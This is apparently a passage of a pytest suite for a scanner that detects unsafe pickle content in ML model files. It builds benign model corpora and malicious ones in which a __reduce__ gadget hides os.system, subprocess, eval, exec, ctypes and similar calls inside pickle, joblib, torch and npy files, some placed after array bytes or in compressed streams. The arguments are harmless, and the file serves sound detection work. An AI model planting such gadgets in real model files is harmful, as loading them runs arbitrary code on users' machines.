    forest = make_pipeline(StandardScaler(), RandomForestClassifier(n_estimators=3, random_state=0)).fit(x, y)
    hgb = HistGradientBoostingClassifier(max_iter=3).fit(x, y)
    return {"pipe": pipe, "forest": forest, "hgb": hgb}


def _benign_corpus(root: Path) -> list[str]:
    joblib = pytest.importorskip("joblib")
    pytest.importorskip("sklearn")
    root.mkdir()
    models = _sklearn_pipeline()
    (root / "pipeline.pkl").write_bytes(pickle.dumps(models, protocol=pickle.HIGHEST_PROTOCOL))
    (root / "pipeline_p2.pkl").write_bytes(pickle.dumps(models["pipe"], protocol=2))
    joblib.dump(models, root / "pipeline.joblib")
    joblib.dump({"models": models, "big": np.arange(50_000.0)}, root / "arrays.joblib")
    joblib.dump(models, root / "pipeline_zlib.joblib", compress=3)  # zlib
    joblib.dump(models, root / "pipeline.joblib.gz", compress=("gzip", 3))
    joblib.dump(models, root / "pipeline.joblib.bz2", compress=("bz2", 3))
    joblib.dump(models, root / "pipeline.joblib.xz", compress=("xz", 3))
    joblib.dump(models, root / "pipeline.joblib.lzma", compress=("lzma", 3))
    values = [
        datetime.datetime(2024, 1, 2, 3, 4, 5, tzinfo=datetime.UTC),
        datetime.date(2024, 1, 2),
        datetime.timedelta(days=3),
        decimal.Decimal("1.25"),
        fractions.Fraction(1, 3),
        uuid.UUID(int=7),
        collections.OrderedDict(a=1),
        collections.defaultdict(list, a=[1]),
        {1, 2},
        frozenset([3]),
        complex(1, 2),
    ]
    for protocol in range(pickle.HIGHEST_PROTOCOL + 1):
        (root / f"values_p{protocol}.pkl").write_bytes(pickle.dumps(values, protocol=protocol))
    np.save(root / "objects.npy", np.array([1, "a", None, {"k": [1.5]}], dtype=object), allow_pickle=True)
    return sorted(p.name for p in root.iterdir())


def test_every_benign_file_passes_by_default(tmp_path: Path) -> None:
    names = _benign_corpus(tmp_path / "benign")
    assert compression_of((tmp_path / "benign" / "pipeline_zlib.joblib").read_bytes()[:4]) == "zlib"

    report = scan_model_dir(tmp_path / "benign")

    assert report.ok, "\n".join(f.format() for f in report.findings)
    assert report.files_scanned == len(names)


def test_benign_files_load_back_as_scanned(tmp_path: Path) -> None:
    # the corpus is real: joblib and pickle load it (independent check that the files are valid)
    joblib = pytest.importorskip("joblib")
    _benign_corpus(tmp_path / "benign")
    for name in ("pipeline.joblib", "pipeline_zlib.joblib", "pipeline.joblib.xz", "arrays.joblib"):
        assert "models" in joblib.load(tmp_path / "benign" / name) or name != "arrays.joblib"
    assert np.load(tmp_path / "benign" / "objects.npy", allow_pickle=True)[1] == "a"


def test_mlflow_sklearn_model_directory_passes(tmp_path: Path) -> None:
    mlflow_sklearn = pytest.importorskip("mlflow.sklearn")
    from sklearn.linear_model import LogisticRegression

    x = np.random.default_rng(1).normal(size=(30, 2))
    model = LogisticRegression().fit(x, (x[:, 0] > 0).astype(int))
    mlflow_sklearn.save_model(model, str(tmp_path / "mlflow_model"))

    report = scan_model_dir(tmp_path / "mlflow_model")

    assert report.ok, "\n".join(f.format() for f in report.findings)
    assert report.files_scanned >= 3


def test_torch_module_and_state_dict_pass(tmp_path: Path) -> None:
    torch = pytest.importorskip("torch")
    net = torch.nn.Sequential(
        torch.nn.Conv1d(1, 2, 3), torch.nn.ReLU(), torch.nn.Flatten(), torch.nn.LazyLinear(1)
    )
    net(torch.zeros(1, 1, 8))
    torch.save(net, tmp_path / "module.pt")
    torch.save(net.state_dict(), tmp_path / "state_dict.pt")
    torch.save(torch.nn.LSTM(3, 4), tmp_path / "lstm.pt")

    report = scan_model_dir(tmp_path)

    assert report.ok, "\n".join(f.format() for f in report.findings)


# --- malicious corpus ----------------------------------------------------------------------


class _Payload:
    """Unpickling calls ``func(*args)``."""

    def __init__(self, func: Callable[..., object], *args: object) -> None:
        self.func = func
        self.args = args

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return (self.func, self.args)


PAYLOADS: dict[str, tuple[_Payload, str]] = {
    "os_system": (_Payload(os.system, "true"), f"{os.system.__module__}.system"),
    "subprocess": (_Payload(subprocess.check_output, ["true"]), "subprocess.check_output"),
    "eval": (_Payload(builtins.eval, "1+1"), "builtins.eval"),
    "exec": (_Payload(builtins.exec, "x=1"), "builtins.exec"),
    "importlib": (_Payload(importlib.import_module, "os"), "importlib.import_module"),
    "marshal": (_Payload(marshal.loads, b"N"), "marshal.loads"),
    "partial": (_Payload(functools.partial(print), "x"), "functools.partial"),
    "runpy": (_Payload(runpy.run_path, "/nonexistent.py"), "runpy.run_path"),
    "getattr": (_Payload(builtins.getattr, datetime.date(2024, 1, 1), "today"), "builtins.getattr"),
    "pickle_loads": (_Payload(pickle.loads, b"N."), "_pickle.loads"),
}


def _ctypes_payload() -> tuple[_Payload, str]:
    import ctypes

    return _Payload(ctypes.CDLL, None), "ctypes.CDLL"


def _assert_reported(report: ScanReport, symbol: str, data: bytes | None = None) -> Finding:
    # protocol < 3 pickles may spell a name the Python 2 way (subprocess -> commands); the scan
    # reports the name the unpickler imports, so match on the attribute name then
    matches = [f for f in report.findings if f.symbol == symbol] or [
        f for f in report.findings if f.symbol and f.symbol.rpartition(".")[2] == symbol.rpartition(".")[2]
    ]
    assert matches, f"{symbol} not reported: {[f.format() for f in report.findings]}"
    finding = matches[0]
    assert finding.kind == "dangerous_global", finding.format()
    assert finding.offset is not None and finding.offset >= 0
    assert finding.stream
    assert f"at byte {finding.offset}" in finding.detail
    if data is not None:  # the offset points at the import opcode of that global
        name = symbol.rpartition(".")[2]
        assert data[finding.offset : finding.offset + 1] in (b"\x93", b"c", b"i")
        window = data[max(0, finding.offset - 300) : finding.offset + 300]
        assert name.encode() in window
    return finding


@pytest.fixture(params=[*sorted(PAYLOADS), "ctypes"])
def payload(request: pytest.FixtureRequest) -> tuple[_Payload, str]:
    if request.param == "ctypes":
        return _ctypes_payload()
    return PAYLOADS[request.param]


def test_payload_hidden_after_benign_objects(tmp_path: Path, payload: tuple[_Payload, str]) -> None:
    obj, symbol = payload
    data = pickle.dumps(
        {"weights": list(range(2000)), "when": datetime.date(2024, 1, 1), "x": obj}, protocol=4
    )
    (tmp_path / "model.pkl").write_bytes(data)

    report = scan_model_dir(tmp_path)

    finding = _assert_reported(report, symbol, data)
    assert finding.stream == "file"


def test_payload_after_array_bytes_in_joblib(tmp_path: Path, payload: tuple[_Payload, str]) -> None:
    joblib = pytest.importorskip("joblib")
    obj, symbol = payload
    path = tmp_path / "model.joblib"
    joblib.dump({"a": np.arange(10_000.0), "b": np.ones((30, 7), dtype=np.int8, order="F"), "z": obj}, path)
    data = path.read_bytes()

    report = scan_model_dir(tmp_path)

    finding = _assert_reported(report, symbol, data)
    assert finding.offset is not None and finding.offset > 80_000  # after both arrays' raw bytes
    assert [f for f in report.findings if f.kind == "invalid_pickle"] == []  # the stream was followed


def test_payload_inside_compressed_joblib(tmp_path: Path, payload: tuple[_Payload, str]) -> None:
    joblib = pytest.importorskip("joblib")
    obj, symbol = payload
    for compress, fmt in ((3, "zlib"), (("gzip", 3), "gzip"), (("lzma", 3), "lzma"), (("bz2", 3), "bz2")):
        path = tmp_path / f"model_{fmt}.joblib"
        joblib.dump({"a": np.arange(5000.0), "z": obj}, path, compress=compress)
        with path.open("rb") as fh:
            plain = Decompressed(fh, compression_of(path.read_bytes()[:8]) or "?").read(1 << 30)

        report = scan_model_dir(path)

        finding = _assert_reported(report, symbol, plain)
        assert finding.stream is not None and "decompressed" in finding.stream


def test_payload_inside_torch_zip(tmp_path: Path, payload: tuple[_Payload, str]) -> None:
    torch = pytest.importorskip("torch")
    obj, symbol = payload
    torch.save({"state": torch.nn.Linear(2, 2).state_dict(), "hook": obj}, tmp_path / "model.pt")
    with zipfile.ZipFile(tmp_path / "model.pt") as zf:
        member = next(n for n in zf.namelist() if n.endswith("data.pkl"))
        data = zf.read(member)

    report = scan_model_dir(tmp_path)

    finding = _assert_reported(report, symbol, data)
    assert finding.stream == f"member {member!r}"


def test_payload_in_object_npy(tmp_path: Path, payload: tuple[_Payload, str]) -> None:
    obj, symbol = payload
    np.save(tmp_path / "objs.npy", np.array([1.5, "x", obj], dtype=object), allow_pickle=True)

    report = scan_model_dir(tmp_path)

    _assert_reported(report, symbol, (tmp_path / "objs.npy").read_bytes())


def test_payload_in_joblib_object_array(tmp_path: Path) -> None:
    joblib = pytest.importorskip("joblib")
    path = tmp_path / "model.joblib"
    joblib.dump(
        {"a": np.arange(100.0), "objs": np.array([1, _Payload(os.system, "true")], dtype=object)}, path
    )

    report = scan_model_dir(path)

    _assert_reported(report, f"{os.system.__module__}.system", path.read_bytes())


class _Unseekable(io.BytesIO):
    """A write stream without tell(): joblib then writes arrays without alignment padding."""

    def tell(self) -> int:
        raise io.UnsupportedOperation("tell")

    def seekable(self) -> bool:
        return False


def test_joblib_array_bytes_that_are_opcodes_are_reported(tmp_path: Path) -> None:
    # unpadded joblib array data that is a payload for a plain pickle.load of the same file
    from joblib.numpy_pickle import NumpyPickler

    evil = pickle.dumps(_Payload(os.system, "true"), protocol=2)[2:]  # without PROTO
    out = _Unseekable()
    NumpyPickler(out).dump([np.frombuffer(evil, dtype=np.uint8)])
    path = tmp_path / "model.joblib"
    path.write_bytes(out.getvalue())
    joblib = pytest.importorskip("joblib")
    assert joblib.load(path)[0].tobytes() == evil  # joblib reads it as plain array bytes

    report = scan_model_dir(path)

    assert f"{os.system.__module__}.system" in {f.symbol for f in report.findings}


def test_truncated_compressed_joblib_is_refused(tmp_path: Path) -> None:
    joblib = pytest.importorskip("joblib")
    path = tmp_path / "model.joblib"
    joblib.dump({"a": np.arange(50_000.0)}, path, compress=3)
    path.write_bytes(path.read_bytes()[:-100])

    report = scan_model_dir(path)

    assert {f.kind for f in report.findings} & {"invalid_compressed", "invalid_pickle"}


def test_gzip_text_passes_but_gzip_pickle_payload_is_reported(tmp_path: Path) -> None:
    (tmp_path / "data.csv.gz").write_bytes(gzip.compress(b"a,b\n1,2\n"))
    (tmp_path / "notes.txt.gz").write_bytes(
        zlib.compress(pickle.dumps(_Payload(os.system, "true"), protocol=0))
    )

    report = scan_model_dir(tmp_path)

    assert [(f.path, f.kind) for f in report.findings] == [("notes.txt.gz", "dangerous_global")]


# ==================================================================================================
# The exact-or-refuse rule on real joblib/numpy output: every dtype and protocol joblib writes
# passes, and each way a dtype state can disagree with numpy is refused.
# ==================================================================================================


def _arrays() -> dict[str, object]:
    return {
        "dt": np.array(["2024-01-01"], dtype="M8[ns]"),
        "td": np.array([1], dtype="m8[s]"),
        "u": np.array(["abc", "d"]),
        "s": np.array([b"ab"]),
        "struct_obj": np.array([(1, "x")], dtype=[("a", "i4"), ("b", "O")]),
        "sub": np.zeros(2, dtype=("f8", (2, 3))),
        "nested": np.zeros(2, dtype=[("a", [("x", "i2"), ("y", ">f4")]), ("c", "S3")]),
        "be": np.arange(3, dtype=">i8"),
        "aligned": np.zeros(2, dtype=np.dtype([("a", "i1"), ("b", "f8")], align=True)),
        "masked": np.ma.masked_array([1, 2], [0, 1]),
        "empty": np.zeros((0, 5)),
        "scalar": np.array(3.0),
        "c": np.ones(2, np.complex64),
        "f16": np.ones(2, np.float16),
    }


@pytest.mark.parametrize("protocol", range(6))
@pytest.mark.parametrize("compress", [0, 3])
def test_every_dtype_joblib_writes_passes_at_every_protocol(
    tmp_path: Path, protocol: int, compress: int
) -> None:
    joblib = pytest.importorskip("joblib")
    path = tmp_path / "arrays.joblib"
    joblib.dump(_arrays(), path, protocol=protocol, compress=compress)

    report = scan_model_dir(path)

    assert report.ok, "\n".join(f.format() for f in report.findings)
    assert set(joblib.load(path)) == set(_arrays())


@pytest.mark.parametrize(
    ("code", "state"),
    [
        ("f8", (3, "<", None, None, None, 4, -1, 0)),  # element size numpy ignores
        ("i4", (3, "<", None, None, None, 8, 4, 0)),
        ("c16", (3, "<", None, None, None, 1, -1, 0)),
        ("O8", (3, "|", None, None, None, -1, -1, 0)),  # object without the object flags
        ("i8", (3, "<", None, None, None, -1, -1, 1)),  # number with an object flag
        ("U5", (3, "<", None, None, None, 21, 4, 8)),  # not a whole number of characters
        ("S5", (3, "|", None, None, None, 5, 1, 63)),  # bytes claiming objects
        ("f8", (2, "<", None, None, None, -1, -1, 0)),  # an older state version
        ("f8", (3, "<", None, None, None, -1, -1, 0, None)),  # a 9-tuple must be version 4
    ],
)
def test_dtype_states_numpy_would_read_differently_are_refused(
    tmp_path: Path, code: str, state: tuple
) -> None:
    data = (
        b"\x80\x04" + wrapper_newobj(tup(bint(4)), dtype_bytes(code, state)) + b"\x00" + b"\xff" * 200 + b"."
    )
    (tmp_path / "m.joblib").write_bytes(data)

    report = scan_model_dir(tmp_path / "m.joblib")

    assert [f.kind for f in report.findings] == ["ambiguous_layout"], [f.format() for f in report.findings]
    assert "dtype" in report.findings[0].detail


def test_unicode_without_state_counts_four_bytes_a_character(tmp_path: Path) -> None:
    # 3 x U2 = 24 bytes for numpy; the payload after them must be found
    data = b"\x80\x04" + wrapper_newobj(tup(bint(3)), dtype_bytes("U2")) + b"\x00" + desync_region(6, 24)
    (tmp_path / "m.joblib").write_bytes(data)

    report = scan_model_dir(tmp_path / "m.joblib")

    assert "posix.system" in {f.symbol for f in report.findings} or "os.system" in {
        f.symbol for f in report.findings
    }
